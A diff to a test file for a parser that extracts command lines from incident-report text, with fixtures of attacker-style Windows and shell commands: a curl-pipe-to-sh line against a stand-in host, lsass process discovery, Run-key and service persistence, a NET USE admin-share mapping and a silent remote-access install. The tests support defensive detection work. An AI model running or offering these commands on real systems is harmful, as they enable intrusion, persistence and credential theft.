@@ -9,9 +9,9 @@ describe('extractCmdlines', () => {
     expect(values(text)).toEqual(['whoami /all', 'Get-Process -Name lsass', 'curl -s http://x.test/a | sh']);
   });
 
-  it('keeps bare commands only in shell-tagged blocks', () => {
+  it('keeps bare commands only in shell-tagged blocks (a discovery program alone in a block aside)', () => {
     expect(values('```bash\nwhoami\nid\n```')).toEqual(['whoami', 'id']);
-    expect(values('```\nwhoami\n```')).toEqual([]);
+    expect(values('```\nmimikatz\n```')).toEqual([]);
   });
 
   it('joins continued lines (^, `, \\, &&, open quotes, value-taking switches)', () => {
@@ -535,5 +535,47 @@ describe('extractCmdlines: a folder named after its tool', () => {
     expect(values('```\nC:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent\n```')).toEqual([
       'C:\\ProgramData\\AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent',
     ]);
+  });
+});
+
+describe('extractCmdlines: Windows discovery and capitalised programs', () => {
+  it('takes a discovery program run without arguments when it is all a block or inline code shows', () => {
+    expect(values('The operator checked the console code page:\n\n```\nchcp\n```')).toEqual(['chcp']);
+    expect(values('Then the loaded drivers were listed:\n\n```\nDRIVERQUERY\n```')).toEqual(['DRIVERQUERY']);
+    expect(values('Next came `driverquery` and `getmac`.')).toEqual(['driverquery', 'getmac']);
+    expect(values('```\nwhoami\n```')).toEqual(['whoami']);
+    // A block that only lists names, and prose that names the programs, are not commands run.
+    expect(values('```\nchcp\ndriverquery\n```')).toEqual([]);
+    expect(values('The actor ran chcp and driverquery on the host.')).toEqual([]);
+  });
+
+  it('reads gpresult and the wmic aliases a hardware or disk survey uses', () => {
+    expect(values('```\ngpresult /z\n```')).toEqual(['gpresult /z']);
+    expect(values('```\n"C:\\Windows\\System32\\Wbem\\WMIC.exe" csproduct get uuid,vendor\n```')).toEqual([
+      '"C:\\Windows\\System32\\Wbem\\WMIC.exe" csproduct get uuid,vendor',
+    ]);
+    expect(values('```\nwmic logicaldisk list brief\n```')).toEqual(['wmic logicaldisk list brief']);
+  });
+
+  it('takes a search program with a bare pattern, alone or fed by a pipe', () => {
+    expect(values('```\nfindstr lsass\n```')).toEqual(['findstr lsass']);
+    expect(values('```\ntasklist | findstr lsass\n```')).toEqual(['tasklist | findstr lsass']);
+    expect(values('They piped it: `tasklist | findstr svchost`.')).toEqual(['tasklist | findstr svchost']);
+    expect(values('Use findstr to search the files for the word.')).toEqual([]);
+  });
+
+  it('reads a Windows program written in capitals before its sub-command, not a capitalised word of a sentence', () => {
+    const runKey =
+      'REG ADD "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /V "upd" /t REG_SZ /F /D "C:\\Users\\x\\AppData\\u.exe"';
+    expect(values('```\n' + runKey + '\n```')).toEqual([runKey]);
+    expect(values('```\nNET USE \\\\10.0.0.5\\c$ /user:corp\\svc\nwhoami /all\n```')).toEqual([
+      'NET USE \\\\10.0.0.5\\c$ /user:corp\\svc',
+      'whoami /all',
+    ]);
+    expect(values('The intruder ran `' + runKey + '` to persist.')).toEqual([runKey]);
+    expect(values('The intruder ran “SC CREATE upd binPath= C:\\Users\\x\\u.exe” to persist.')).toEqual([
+      'SC CREATE upd binPath= C:\\Users\\x\\u.exe',
+    ]);
+    expect(values('Reg add operations were common. Set the flag /f to force it.')).toEqual([]);
   });
 });
